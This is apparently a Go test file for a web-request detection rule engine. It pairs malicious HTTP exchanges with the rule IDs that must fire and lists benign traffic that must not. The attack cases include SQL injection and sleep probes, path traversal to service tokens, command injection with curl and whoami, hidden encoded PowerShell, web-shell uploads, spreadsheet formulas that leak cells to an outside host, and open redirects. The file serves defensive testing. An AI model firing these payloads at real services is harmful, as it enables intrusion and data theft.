		"table in a path":                 {exchange("GET", "/dict/"+url.PathEscape("' from shop_staff")+"/name,pin%20'/x.js", "", ""), 9703129},
		"difference and a comment":        {exchange("POST", "/a", "application/x-www-form-urlencoded", "code="+url.QueryEscape("1'-1/user--'")), 9703130},
		"comment in what is nearly JSON":  {exchange("POST", "/a", jsonType, `{code:"1' and 2=user--+"}`), 9703130},
		"ending as a parameter":           {exchange("POST", "/a.ashx?op=save&ext=.aspx", "application/octet-stream", "lamp"), 9703131},
		"picture that ends as a script":   {exchange("POST", "/a", "application/x-www-form-urlencoded", "source[]="+url.QueryEscape("http://other.example/1.png?.ashx")), 9703132},
		"script of ASP.NET":               {uploaded("lamp.aspx", "x"), 9703133},
		"script of ASP, in capitals":      {uploaded("lamp.Asp", "x"), 9703133},
		"page of ASP.NET in a picture":    {uploaded("lamp.jpg", "GIF89a\r\n<%@ Page Language=\"Jscript\" %><% var p = new System.Diagnostics.ProcessStartInfo(\"lamp\"); %>"), 9703071},
		"answer of ASP":                   {uploaded("lamp.txt", "<% response.write(\"lamp\") %>"), 9703071},
		"folders that are none":           {exchange("GET", "/lua/"+strings.Repeat("%2e%2f", 20)+"as.css", "", ""), 9703134},
		"traversal as a whole query":      {exchange("GET", "/dl.jsp?"+base64.StdEncoding.EncodeToString([]byte("&FileName=../../../lamp&path=/a")), "", ""), 9703135},
		"traversal as a query, shifted":   {exchange("GET", "/dl.jsp?"+base64.StdEncoding.EncodeToString([]byte("n=../../../lamp")), "", ""), 9703135},
		"source by its place":             {exchange("GET", "/a.php?type=10&downname="+url.QueryEscape(`C:\lamp\WWW\php\a.php`), "", ""), 9703136},
		"function for a filter":           {exchange("POST", "/auth/reset", jsonType, `{"user":{"$func":"var_dump"}}`), 9703044},
		"sleep and a comment":             {exchange("POST", "/a", "application/x-www-form-urlencoded", "id="+url.QueryEscape("sleep(6) -- x")), 9703088},
		"condition that sleeps":           {exchange("POST", "/a", jsonType, `{"orders":[{"name":"name","type":",if(1=1,sleep(2),0)"}]}`), 9703088},
		"shell of Windows":                {exchange("POST", "/a", "application/x-www-form-urlencoded", "date="+url.QueryEscape("|cmd.exe /c whoami > 1.txt")), 9703123},
		"registry of Java":                {exchange("POST", "/a", "application/x-www-form-urlencoded", "source="+url.QueryEscape("rmi://other.example:1099/lamp")), 9703074},
		"shell of an appliance":           {exchange("POST", "/tm/util/bash", jsonType, `{"command":"run","utilCmdArgs":"-c id"}`), 9703124},
		"command behind two signs":        {exchange("GET", "/a?ip=192.0.2.4%20&&%20curl%20http://other.example", "", ""), 9703138},
		"command in JSON that is none":    {exchange("POST", "/a", "application/x-www-form-urlencoded", `{"a":"b","machines":{"id":"$(id > /srv/lamp.txt)"}`), 9703139},
		"script to be fetched":            {exchange("GET", "/ue/catchByUrl?url=http://other.example/lamp.jsp", "", ""), 9703140},
		"service that tells":              {exchange("POST", "/a", jsonType, `{"hook":"http://q7.oast.fun/a"}`), 9703141},
		"service that tells, by itself":   {exchange("GET", "/a?host=dnslog.cn", "", ""), 9703141},
		"path to another host":            {exchange("GET", "/%5cother.example/a.html", "", ""), 9703142},
		"path to another host and up":     {exchange("GET", "//other.example/%2e%2e", "", ""), 9703142},
		"command with carets":             {exchange("GET", "/a?unit="+url.QueryEscape("lamp & n^e^t us^er"), "", ""), 9703144},
		"columns with a separator":        {exchange("POST", "/a", jsonType, `{"columns":["id","name AND (SELECT GROUP_CONCAT(pin,0x2c,id) FROM lamps)"]}`), 9703145},
		"query that sleeps":               {exchange("POST", "/a", jsonType, `{"columns":["id AND (SELECT(SLEEP(4)))"]}`), 9703145},
		"user that looks like a host":     {exchange("GET", "/a?u="+url.QueryEscape("https://www.shop.example@lamps.svc:9200/_cat"), "", ""), 9703146},
		"host that is too long":           {exchange("GET", "/", "", "", "Host: "+strings.Repeat("a", 300)), 9703147},
		"SQL in a token":                  {exchange("GET", "/", "", "", "Authorization: Bearer a'/**/or/**/1=1"), 9703148},
		"path in a header":                {exchange("GET", "/", "", "", "X-Original-URL: /shop/admin/users"), 9703149},
		"logins by other names":           {exchange("POST", "/api/graphql", jsonType, `{"query":"mutation {`+strings.Repeat(` a: login(pin: \"1\") { token }`, 7)+`}"}`), 9703150},
		"logins one after the other":      {exchange("POST", "/graphql", jsonType, `[`+strings.Repeat(`{"query":"mutation Verify($c: String!) { verifyOtp(code: $c) { token } }"},`, 6)+`{}]`), 9703150},
		"logins of XML-RPC":               {exchange("POST", "/xmlrpc.php", "text/xml", `<methodCall><methodName>system.multicall</methodName><params>`+strings.Repeat("<value>wp.getUsersBlogs</value><value>ann</value>", 4)+`</params></methodCall>`), 9703151},
		"PowerShell that nobody sees":     {exchange("POST", "/a", jsonType, `{"command":"powershell.exe -NoP -W Hidden -Enc `+strings.Repeat("QQBC", 12)+`"}`), 9703152},
		"token of a service in JSON":      {exchange("POST", "/a", jsonType, `{"name":"../../../../run/secrets/lamp.io/token"}`), 9703153},
		"file of Windows in JSON":         {exchange("POST", "/a", jsonType, `{"name":"..\\..\\..\\windows\\lamp.ini"}`), 9703153},
		"filter by a password":            {exchange("GET", "/odata/Users?$filter="+url.QueryEscape("startswith(PasswordHash,'$2b$1')"), "", ""), 9703154},
		"line behind a password":          {exchange("GET", "/", "", "", "Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("root:x\r\nhasroot=1\r\nuser=root"))), 9703099},
		"formula that sends a cell":       {exchange("POST", "/contacts", jsonType, `{"name":"=HYPERLINK(\"http://other.example/?c=\"&B2,\"open\")"}`), 9703068},
		"formula that fetches":            {exchange("POST", "/contacts", "application/x-www-form-urlencoded", "company="+url.QueryEscape(`+IMPORTXML(CONCAT("https://other.example/?",B2),"//a")`)), 9703068},
		"archive with a shell":            {uploaded("w.war", "PK\x03\x04\x14\x00webshell.jsp"), 9703071},
		"archive with a page":             {uploaded("w.zip", "PK\x03\x04\x14\x00a.jsp<%@page import=\"java.io.*\"%>"), 9703071},
		"header of HTTP/2":                {exchange("GET", "/", "", "", ":authority: other.internal"), 9703079},
		"redirected to the path":          {exchange("GET", "//other.example/%2f..", "", "", "redirect: //other.example/"), 9703112},
		"redirected on trial":             {exchange("GET", "/login?next="+url.QueryEscape("https://evil.example/a"), "", "", "redirect: https://evil.example/a"), 9703113},
	} {
		t.Run(name, func(t *testing.T) {
			if all := rulesOf(t, p, c.record); !slices.Contains(all, c.rule) {
				t.Errorf("%d is not among %v", c.rule, all)
			}
		})
	}
}

// What alarms for other reasons does so without these rules.
func TestEvidenceIsNone(t *testing.T) {
	p := confident(t, "rules=crs,lateral-movement")
	for name, c := range map[string]struct {
		record map[string]string
		rule   int
	}{
		"question about a file":  {exchange("GET", "/a?q="+url.QueryEscape("who has /bin/cat? -- me"), "", ""), 9703092},
		"list of PHP":            {exchange("GET", "/a?cart="+url.QueryEscape(`a:1:{i:0;O:8:"stdClass":0:{}}`), "", ""), 9703095},
		"plain object of PHP":    {exchange("GET", "/a?cart="+url.QueryEscape(`O:8:"stdClass":1:{s:1:"a";i:1;}`), "", ""), 9703095},
		"frame with a document":  {exchange("POST", "/a", jsonType, `{"html":"<iframe srcdoc='<p>Lamp</p>'>"}`), 9703098},
		"page that is put":       {exchange("PUT", "/files/a.php", "text/plain", "<?php echo htmlspecialchars($title); ?>"), 9703072},
		"script that is renamed": {exchange("MOVE", "/dav/a.php.part", "", "", "Destination: http://shop.internal/dav/a.php"), 9703073},
	} {
		t.Run(name, func(t *testing.T) {
			if all := rulesOf(t, p, c.record); slices.Contains(all, c.rule) {
				t.Errorf("%d is among %v", c.rule, all)
			}
		})
	}
}

// agent is a request of a program.
func agent(name string) map[string]string {
	r := exchange("GET", "/", "", "")
	r["REQ_HEADER"] = strings.Replace(r["REQ_HEADER"], "okhttp/4.12.0", name, 1)
	return r
}

// uploaded is a form with a file.
func uploaded(name, content string) map[string]string {
	return exchange("POST", "/files", "multipart/form-data; boundary=b7", "--b7\r\nContent-Disposition: form-data; name=\"file\"; filename=\""+name+"\"\r\n\r\n"+content+"\r\n--b7--\r\n")
}

// token is a JSON Web Token with a header.
func token(header string) string {
	return base64.RawURLEncoding.EncodeToString([]byte(header)) + ".eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl"
}

// What services send each other all day does not, though rules match on it.
func TestConfidenceOfOrdinaryTraffic(t *testing.T) {
	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
	for name, record := range map[string]map[string]string{
		"script of a job":        exchange("POST", "/job", jsonType, `{"command":"set -e\ncurl -fsS http://10.0.0.5/a.tar | tar x\ncd a && ./configure && sh test.sh"}`),
		"text about a shell":     exchange("POST", "/a", jsonType, `{"text":"Then exec 3<>/dev/tcp/10.0.0.1/80 opens it, and cat /etc/hosts shows the names."}`),
		"module of Node.js":      exchange("POST", "/a", jsonType, `{"source":"const run = require('child_process').execSync;\nrun('lamp');"}`),
		"report of several":      exchange("POST", "/a", jsonType, `{"query":"SELECT status, count(*) FROM lamp GROUP BY 1 UNION ALL SELECT 'all', count(*) FROM lamp -- all"}`),
		"page about a command":   exchange("GET", "/wiki/id", "", "", "answer: <html><body><p>The command prints the name and the number of the user who runs it, and all groups that he is in:</p><pre>uid=7(app) gid=7(app)</pre></body></html>"),
		"trace of Java":          exchange("POST", "/tickets/7/comments", jsonType, `{"body":"<pre>java.lang.NullPointerException\n\tat java.lang.Runtime.exec(Runtime.java:450)\n\tat org.shop.Lamp.main(Lamp.java:7)</pre>"}`),
		"settings in YAML":       exchange("PATCH", "/templates/7", jsonType, `{"vars":"---\nhost: \"{{ name }}\"\npath: \"{{ lookup('env','HOME') }}/x\"\n"}`),
		"sum of a calculator":    exchange("GET", "/calc?expr="+url.QueryEscape("(7*7)+sqrt(16)/2-3^2"), "", ""),
		"picture in JSON":        exchange("POST", "/icons", jsonType, `{"svg":"<svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:url(#g)}</style><path class=\"a\" d=\"M12 2z\"/></svg>"}`),
		"report of a browser":    exchange("POST", "/csp", "application/csp-report", `{"csp-report":{"script-sample":"javascript:void(0);alert(1)"}}`),
		"trace of a statement":   exchange("POST", "/v1/traces", jsonType, `{"resourceSpans":[{"scopeSpans":[{"spans":[{"attributes":[{"key":"http.target","value":{"stringValue":"/a/../../../etc/passwd?x=<script>"}}]}]}]}]}`),
		"name of a style sheet":  uploaded("lamp.ascx.css", "x"),
		"endings to look for":    exchange("GET", "/search?ext=.php&q=lamp", "", ""),
		"programs in a list":     exchange("GET", "/a?allow="+url.QueryEscape("notepad.exe|calc.exe"), "", ""),
		"feet and inches":        exchange("GET", "/a?size="+url.QueryEscape("5' - 6 -- about"), "", ""),
		"name with a dash":       exchange("GET", "/a?q="+url.QueryEscape("O'Brien's lamp -- new"), "", ""),
		"column of passwords":    exchange("GET", "/a?q="+url.QueryEscape("select a password from the list"), "", ""),
		"rows of a report":       exchange("GET", "/a?query="+url.QueryEscape("SELECT name, price FROM lamps"), "", ""),
		"function of OData":      exchange("GET", "/odata/Lamps(3)/version()", "", ""),
		"picture with a number":  exchange("GET", "/a?url="+url.QueryEscape("https://cdn.example/lamp.png?v=3"), "", ""),
		"session of a shop":      exchange("POST", "/a.php", "application/x-www-form-urlencoded", "session[id]=3&get[]=1"),
		"data of a sensor":       exchange("POST", "/a", jsonType, `{"sensor":"7n@]|c?SD+v7 A&ZL^Pf^c<x|a^n^roya;HmqZK\u0060k0f"}`),
		"powers in a formula":    exchange("GET", "/a?f="+url.QueryEscape("a^b^c & d"), "", ""),
		"repository of a user":   exchange("POST", "/a", jsonType, `{"clone":"https://ann.lamp@git.example/a.git","mail":"https://ann@lamp.example:x@git.example"}`),
		"token in quotes":        exchange("GET", "/", "", "", `Authorization: Bearer "ab12"`),
		"path of a proxy":        exchange("GET", "/", "", "", "X-Original-URL: https://shop.example/admin/"),
		"path before a rewrite":  exchange("GET", "/index.php", "", "", "X-Original-URL: /admin/users"),
		"batch of an app":        exchange("POST", "/graphql", jsonType, `[`+strings.Repeat(`{"query":"query Lamps { lamps(first: 5) { id } }"},`, 8)+`{"query":"mutation { login(pin: 1) { token } }"}]`),
		"PowerShell of a tool":   exchange("POST", "/a", jsonType, `{"note":"run powershell -NoProfile -File a.ps1 in a hidden window -e"}`),
		"text about a path":      exchange("POST", "/docs", jsonType, `[{"content":"Somebody may enter ../../../../proc/lamp, and see."}]`),
		"module of a script":     exchange("POST", "/a", jsonType, `{"import":"../../../lamps/proc.js","main":"../../var/cache/a"}`),
		"filter by a name":       exchange("GET", "/odata/Users?$filter="+url.QueryEscape("startswith(Name,'An') and PasswordAge gt 7"), "", ""),
		"folder of one's own":    exchange("GET", "/a?path="+url.QueryEscape(`C:\Users\ann\lamp.php`), "", ""),
		"query in base64":        exchange("GET", "/a?"+base64.StdEncoding.EncodeToString([]byte("lamp=3&room=kitchen")), "", ""),
		"two signs in a query":   exchange("GET", "/a?q=tom&&cat=3&&sh=1", "", ""),
		"page to be shown":       exchange("GET", "/preview?url="+url.QueryEscape("http://other.example/lamp.jsp"), "", ""),
		"picture to be fetched":  exchange("GET", "/ue/catchimage?source="+url.QueryEscape("http://other.example/lamp.png"), "", ""),
		"script to interact":     exchange("GET", "/tools/interact.sh?name=interact.sh.txt", "", ""),
		"picture of Windows":     exchange("GET", "/%5Cimages%5Clogo.png", "", ""),
		"company with an and":    exchange("GET", "/a?q="+url.QueryEscape("AT&T net user group"), "", ""),
		"command of a device":    exchange("GET", "/a?cmd=status&command=ls", "", ""),
		"car by its name":        exchange("GET", "/alfa-romeo.php", "", ""),
		"article about a shell":  exchange("GET", "/blog/c99.php-explained", "", ""),
		"registration":           exchange("POST", "/api/sign-up", jsonType, `{"user":"ann","role":"user"}`, `answer: {"user":"ann","role":"user"}`),
		"role that is not given": exchange("POST", "/api/sign-up", jsonType, `{"user":"eve","role":"admin"}`, `answer: {"user":"eve","role":"user"}`),
		"role of another":        exchange("PUT", "/api/admin/users/7", jsonType, `{"role":"admin"}`, `answer: {"id":7,"role":"admin"}`),
		"profile as it was":      exchange("PUT", "/api/me", jsonType, `{"id":1,"name":"Ann","role":"admin"}`, `answer: {"id":1,"name":"Ann","role":"admin"}`),
		"first administrator":    exchange("POST", "/setup/register", jsonType, `{"user":"ann","role":"admin"}`, `answer: {"role":"admin"}`),
		"formula of a sheet":     exchange("POST", "/api/sheets/7/update", jsonType, `{"A1":"=SUM(C1:C9)","A2":"=HYPERLINK(\"https://example.org\",\"x\")"}`),
		"union of a club":        exchange("GET", "/a?q="+url.QueryEscape("5 union members select a room from the list"), "", ""),
		"query of a console":     exchange("POST", "/a", jsonType, `{"query":"SELECT 1 AS n UNION SELECT 2"}`),
		"condition in words":     exchange("GET", "/a?q="+url.QueryEscape("lamps and (select beds)"), "", ""),
		"comments in a script":   exchange("POST", "/a", jsonType, `{"js":"a/*x*/.selection/*y*/;union"}`),
		"name with a column":     exchange("GET", "/a?"+url.QueryEscape("select (all)")+"=1", "", ""),
		"template of a letter":   exchange("POST", "/a", jsonType, `{"html":"<p class='x'>{{ user.name|attr('title') }}</p> ${lamp.className}"}`),
		"names with apostrophes": exchange("GET", "/a?q="+url.QueryEscape("Lamps; I'd say; d'Orsay & l's"), "", ""),
		"call in a text":         exchange("GET", "/a?q="+url.QueryEscape("what does phpinfo() show"), "", ""),
		"condition of a filter":  exchange("GET", "/a?q="+url.QueryEscape("lamp == 1 || bed == 2"), "", ""),
		"name of a function":     exchange("POST", "/a", jsonType, `{"function":{"body":"a"}}`),
		"ordinary password":      exchange("GET", "/", "", "", "Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("ann:one:two=three"))),
		"deployment whose container is a line of shell": exchange("POST", "/apis/apps/v1/namespaces/shop/deployments", jsonType,
			`{"kind":"Deployment","spec":{"template":{"spec":{"containers":[{"name":"a","command":["/bin/sh","-c"],"args":["cat /etc/hosts; id && whoami"]}]}}}}`),
		"document with a picture": exchange("POST", "/upload/files", "multipart/related; boundary=q1",
			"--q1\r\nContent-Type: application/json; charset=UTF-8\r\n\r\n{\"name\":\"lamp.png\"}\r\n--q1\r\nContent-Type: image/png\r\n\r\nlamp\r\n--q1--"),
		"settings of a directory": exchange("PUT", "/settings", jsonType, `{"ldap":{"user_filter":"(&(objectClass=person)(|(uid=%s)(mail=%s)))"}}`),
		"driver of a printer":     exchange("POST", "/printers", jsonType, `{"driver":"C:\\Windows\\System32\\spool\\drivers\\x64\\3\\lamp.dll"}`),
		"menu of a system":        exchange("GET", "/api/sys/menu/list", "", ""),
		"link that goes up":       exchange("GET", "/t.gif?u=https%3A%2F%2Fshop.example%2Flamps%2Fold%2F..%2Fnew", "", ""),
		"pipeline of a database":  exchange("POST", "/data/aggregate", jsonType, `{"pipeline":[{"$match":{"email":{"$regex":"@shop"},"$or":[{"n":{"$gt":10}}]}}]}`),
		"batch of requests": exchange("POST", "/odata/$batch", "multipart/mixed; boundary=q1",
			"--q1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nGET lamps?$filter=Kind%20eq%20'A' HTTP/1.1\r\n\r\n\r\n--q1--"),
		"feed with links":            exchange("POST", "/import", "application/xml", "<channel><item><link>http://www.example.com/news</link><title>What is new</title></item></channel>"),
		"filter by operators":        exchange("GET", "/api/products?price[$gt]=5&name[$ne]=lamp", "", ""),
		"filter in JSON":             exchange("POST", "/api/products/find", jsonType, `{"where":{"score":{"$gte":3},"city":{"$in":["Riga","Oslo"]}}}`),
		"PUT":                        exchange("PUT", "/api/carts/17", jsonType, `{"items":3}`),
		"PATCH":                      exchange("PATCH", "/api/carts/17", "application/merge-patch+json", `{"items":4}`),
		"method override":            exchange("POST", "/api/posts/3", jsonType, `{"title":"Hello"}`, "X-HTTP-Method-Override: PUT"),
		"PromQL":                     exchange("GET", "/api/v1/query?query="+url.QueryEscape(`sum(up{job="web"}) unless on(pod) kube_pod_info`), "", ""),
		"editor":                     exchange("POST", "/wp-json/wp/v2/posts", jsonType, `{"content":"<!-- wp:heading -->\n<h2>Spring</h2>\n<!-- /wp:heading -->"}`),
		"CI step":                    exchange("POST", "/job/site/config", jsonType, `{"steps":[{"run":"npm ci && npm test"}]}`),
		"CSV":                        exchange("PUT", "/export/a.csv", "text/csv", "id,name\n7,Siobhan O'Hara\n"),
		"policy report":              exchange("POST", "/csp", "application/csp-report", `{"csp-report":{"violated-directive":"script-src","script-sample":"alert(2)"}}`),
		"name":                       exchange("GET", "/theme?id=select-dark-union", "", ""),
		"O'Brien":                    exchange("POST", "/contact", "application/x-www-form-urlencoded", "name=Pat+O%27Brien&text=Where+is+my+order%3F"),
		"consent cookie":             exchange("GET", "/", "", "", `Cookie: consent={stamp:%27a1b2==%27%2Cnecessary:true}; _ga=GA1.2.1234.5678`),
		"scope":                      exchange("GET", "/oauth/callback?code=4/0Ab&scope="+url.QueryEscape("openid https://www.googleapis.com/auth/userinfo.profile"), "", ""),
		"placeholder":                exchange("GET", "/p?utm_campaign={{campaign.name}}&q=mug", "", ""),
		"filter":                     exchange("GET", "/v2/orders?q="+url.QueryEscape("created_at>=2025-12-11 AND total>100"), "", ""),
		"picture":                    exchange("POST", "/media", "image/png", "\x89PNG\r\n\x1a\n\x00\x00"),
		"title of a page":            exchange("GET", "/c.gif?dt="+url.QueryEscape("Search: \"O'Brien\" | Lamps & more"), "", ""),
		"find or less":               exchange("GET", "/search?q="+url.QueryEscape("desks & less; find them; which one & set of 2"), "", ""),
		"filter by role":             exchange("GET", "/users?filters[role][$ne]=guest&sort=name", "", ""),
		"price of a set":             exchange("POST", "/items", jsonType, `{"price":{"$gt":10},"name":"a set"}`),
		"mail template":              exchange("POST", "/mails", jsonType, `{"text":"Dear {{ user.name }}, {{ items | length }} items, {{ config.site }}"}`),
		"number":                     exchange("GET", "/go?url="+url.QueryEscape("https://shop.internal/orders/2852039166"), "", ""),
		"redirect at the site":       exchange("GET", "/login?next="+url.QueryEscape("//shop.internal/cart")+"&return_to=%2Fcart", "", ""),
		"redirect to a partner":      exchange("GET", "/login?redirect_uri="+url.QueryEscape("https://partner.example/cb?a=1"), "", ""),
		"redirected at the site":     exchange("GET", "/go?u="+url.QueryEscape("//shop.internal/cart"), "", "", "redirect: //shop.internal/cart"),
		"redirected elsewhere":       exchange("GET", "/go?u=cart", "", "", "redirect: //cdn.example/cart"),
		"redirected to a partner":    exchange("GET", "/go?u="+url.QueryEscape("https://partner.example/a"), "", "", "redirect: https://partner.example/a"),
		"kernels of machines":        exchange("GET", "/nodes", "", "", "answer: web-3: Linux web-3 6.1.0-18-amd64 #1 SMP Debian 6.1.76-1 x86_64 GNU/Linux\n"),
		"picture elsewhere":          exchange("GET", "/img?url="+url.QueryEscape("//cdn.example/a.png"), "", ""),
		"mail that is quoted":        exchange("POST", "/mails", jsonType, `{"text":"Hello,\n\nFrom: Ann\nTo: Bob\nSubject: lamps\n\nthanks!"}`),
		"text as a body":             exchange("POST", "/notes", "text/plain", "Let's meet; I don't know where -- or when.\nAnn & Bob"),
		"encoded text":               exchange("GET", "/show?state="+url.QueryEscape("SXQncyA1IG8nY2xvY2s7IHdoZXJlIGFyZSB5b3Ugb3IgQW5uPw=="), "", ""),
		"encoded JSON in a header":   exchange("GET", "/show", "", "", "X-State: eyJpZCI6MTcsInRhZ3MiOlsiYSIsImIiXSwidXJsIjoiL2NhcnQ/YT0xJmI9MiJ9"),
		"picture in a field":         exchange("POST", "/me", jsonType, `{"avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"}`),
		"query's article":            exchange("GET", "/wiki/Dumps", "", "", "answer: Begin with: -- MySQL dump 10.13\nand CREATE TABLE a (id int);"),
		"machine inside":             exchange("POST", "/settings", jsonType, `{"webhook":"http://10.4.0.9:8080/in","grafana":"http://grafana.monitoring.svc/","db":"http://db:5984/"}`),
		"state of a JSF page":        exchange("POST", "/a.xhtml", "application/x-www-form-urlencoded", "javax.faces.ViewState="+url.QueryEscape("rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAJ0AAEx")),
		"server of settings":         exchange("GET", "/orders/prod", "", "", `answer: {"name":"orders","profiles":["prod"],"label":null,"propertySources":[{"name":"git/orders.yml","source":{"a":1}}]}`),
		"well-known place":           exchange("GET", "/.well-known/security.txt", "", ""),
		"signed token":               exchange("GET", "/admin", "", "", "Authorization: Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl"),
		"report of Puppet":           exchange("PUT", "/report", "application/x-yaml", "--- !ruby/object:Puppet::Transaction::Report\nstatus: changed\n"),
		"article with commands":      exchange("POST", "/posts", jsonType, "{\"content\":\"First make room on the disk:\\n\\n```bash\\nsudo rm -rf /var/tmp/* && ls -la /var/log\\ncat /etc/fstab | grep data\\n```\\n\\nThen start the machine again, and look whether it comes up.\"}"),
		"query of a report":          exchange("POST", "/api/reports/run", jsonType, `{"sql":"SELECT region, SUM(total) AS t FROM orders WHERE state = 'paid' OR state = 'sent' GROUP BY region ORDER BY t DESC LIMIT 20"}`),
		"search about a function":    exchange("GET", "/search?q="+url.QueryEscape("alert() does not show"), "", ""),
		"token with a key":           exchange("GET", "/a", "", "", "Authorization: Bearer "+token(`{"alg":"RS256","kid":"2026/11 a","jku":"https://login.shop.internal/keys"}`)),
		"client without a signature": exchange("POST", "/register", jsonType, `{"client_name":"a","id_token_signed_response_alg":"none"}`),
		"state of a form":            exchange("POST", "/a.aspx", "application/x-www-form-urlencoded", "__VIEWSTATE="+url.QueryEscape(base64.StdEncoding.EncodeToString([]byte("\xff\x01\x0f\x0f\x05\n-1834120351d\x18\x02f\x0fd\x16\x04f\x0f")))),
		"class of one's own":         exchange("POST", "/read", jsonType, `{"$type":"Shop.Contracts.Order, Shop.Contracts","lines":{"$type":"System.Collections.Generic.List`+"`1[[System.String, mscorlib]]"+`, mscorlib","$values":[]}}`),
		"list of PHP":                exchange("GET", "/", "", "", "Cookie: c="+url.QueryEscape(`a:2:{i:0;s:4:"lamp";i:1;i:3;}`)),
		"class of a module":          exchange("GET", "/results?class.module=a&class[name]=b&classLoader=c", "", ""),
		"constructor":                exchange("GET", "/results?constructor=a&prototype[0]=b", "", ""),
		"name with quotes":           uploaded("Ann's \u201crock 'n' roll\u201d & R+D <draft> (5 % off; 2 or 3) $100.docx", "x"),
		"pages about PHP":            uploaded("what is php.pdf", "%PDF-1.7 a"),
		"archive":                    uploaded("report.v1.2.tar.gz", "\x1f\ufffd\b"),
		"drawing":                    uploaded("logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9'/></svg>"),
		"page of one's own":          uploaded("page.html", "<html><script>var a = 1;</script><?php echo $title; ?></html>"),
		"document that is renamed":   exchange("MOVE", "/dav/a.txt", "", "", "Destination: http://shop.internal/dav/b.v2.txt"),
		"source of files":            exchange("GET", "/import?source="+url.QueryEscape("ftp://files.example.org/a.csv"), "", ""),
		"session in the path":        exchange("GET", "/shop/item;jsessionid=1A2B?id=3", "", ""),
		"short name of a file":       exchange("GET", "/docs/PROGRA~1.TXT", "", ""),
		"chunks in gzip":             exchange("POST", "/a", "text/plain", "hello", "Transfer-Encoding: gzip, chunked"),
		"fields of a mail":           exchange("POST", "/mails", jsonType, `{"text":"<ul>{{#each items}}<li>{{this.title}}</li>{{/each}}</ul>"}`),
		"proxies":                    exchange("GET", "/", "", "", "Via: HTTP/1.1 edge-3 (Varnish/7.1), 2 front"),
		"log-in of a program":        exchange("GET", "/authorize?client_id=a&redirect_uri="+url.QueryEscape("http://127.0.0.1:52811/callback"), "", ""),
		"dotted text backwards":      exchange("GET", "/q?x="+url.QueryEscape("<b>Uryyb</b> 'dlrow'"), "", ""),
		"formulas of a table":        exchange("POST", "/tables/7/values", jsonType, `{"values":[["=HYPERLINK(\"https://shop.internal/\"&A2,\"open\")","=SUM(B2:B9)"]]}`),
		"formula of a column":        exchange("POST", "/columns", jsonType, `{"title":"source","formula":"=IMPORTDATA(\"https://data.example/a.csv\")"}`),
		"sum of cells":               exchange("POST", "/contacts", jsonType, `{"name":"=SUM(B2:B9)","note":"+49 30 901820","place":"@home","discount":"-5% (on all)"}`),
		"question about a formula":   exchange("GET", "/ask?q="+url.QueryEscape(`=HYPERLINK("https://shop.internal/") shows an error, why?`), "", ""),
		"pattern of a name":          exchange("GET", "/people?name[$regex]=^An&age[$gt]=0&left[$exists]=false", "", ""),
		"application of Java":        uploaded("shop.war", "PK\x03\x04\x14\x00META-INF/MANIFEST.MF PK\x03\x04\x14\x00WEB-INF/web.xml PK\x03\x04\x14\x00index.jsp"),
		"header of HTTP/2 as such":   exchange("GET", "/", "", "", ":authority: shop.internal"),
		"slash at the end":           exchange("GET", "//shop", "", "", "redirect: /shop/"),
		"slash at the site":          exchange("GET", "//shop.internal/a", "", "", "redirect: https://shop.internal/a"),
		"redirected to a shop":       exchange("GET", "/go?u="+url.QueryEscape("https://devils.example/a"), "", "", "redirect: https://devils.example/a"),
		"redirected on its own":      exchange("GET", "/go?u=a", "", "", "redirect: https://evil.example/a"),
		"text in a link of data":     exchange("POST", "/notes", jsonType, `{"file":"data:text/plain;charset=utf-8;base64,Tm90ZXMgb2YgdGhlIG1lZXRpbmc6IG1pbGsgJiBicmVhZA=="}`),
		"codes of characters":        exchange("GET", "/a?t="+url.QueryEscape("String.fromCharCode(72,101,108,108,111,44,32,65,110,110)"), "", ""),
		"words with bars":            exchange("GET", "/a?t="+url.QueryEscape("table | id order; sleep well, cat food & ping pong"), "", ""),
		"browser in Indonesian":      agent("Opera/9.80 (J2ME/MIDP; Opera Mini/5.1/22.4; U; id) Presto/2.5.25"),
		"browser in Romansh":         agent("Mozilla/5.0 (Windows; U; Windows NT 5.1; rm; rv:1.9) Gecko/2009 Firefox/3.5"),
		"screen to touch":            agent("Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0) like Gecko"),
		"packages of Debian":         agent("Debian APT-HTTP/1.3 (2.6.1)"),
		"telephone called Vega":      agent("Mozilla/5.0 (Linux; Android 4.1; Vega Build/A1) AppleWebKit/537"),
		"settings of a page":         exchange("GET", "/assets/config.json", "", ""),
		"job of Jenkins":             exchange("GET", "/job/shop/config.xml", "", ""),
		"settings of a model":        exchange("GET", "/content?path=models%2Flamp-7%2Fadapter_config.json", "", ""),
		"files that are joined":      exchange("GET", "/_static/??/wp-includes/css/a.css,/wp-content/b.css?m=17", "", ""),
		"page of joined files":       exchange("GET", "/a.svg", "", "", "Referer: https://shop.internal/_static/??/css/a.css,/b.css"),
		"base64 in lines":            exchange("POST", "/jobs", "application/x-www-form-urlencoded", "eyJ0YXJnZXQiOiJzaG9wL2xhbXBz\nIiwiZGVwdGgiOjN9\n"),
		"list of a file manager":     exchange("GET", "/php/connector.php?cmd=ls&target=l1_cGljdHVyZXM&intersect[]=a.png&reqid=19a", "", "", `answer: {"list":[]}`),
		"step with a sum":            exchange("POST", "/jobs", jsonType, `{"run":"total=$(expr $a + 1)\nif [ $total -ne ${#list} ]; then sleep 3; echo \"less\" >> log.txt; fi"}`),
		"question about expr":        exchange("GET", "/search?q="+url.QueryEscape("how does expr 100 + 200 work"), "", ""),
		"template of a mail":         exchange("POST", "/mails", jsonType, `{"text":"{if $name}Dear {$name}{else}Hello{/if} {if: name}"}`),
		"address with a question":    exchange("GET", "/out.php?u="+url.QueryEscape("https://partner.example/lamps.php?"), "", ""),
		"picture from a machine":     exchange("GET", "/thumb.php?src="+url.QueryEscape("http://10.4.0.9/a.png")+"&w=90", "", ""),
		"table from a file":          exchange("POST", "/_sql", jsonType, `{"stmt":"COPY orders FROM 's3://shop/orders.csv' WITH (format='csv')"}`),
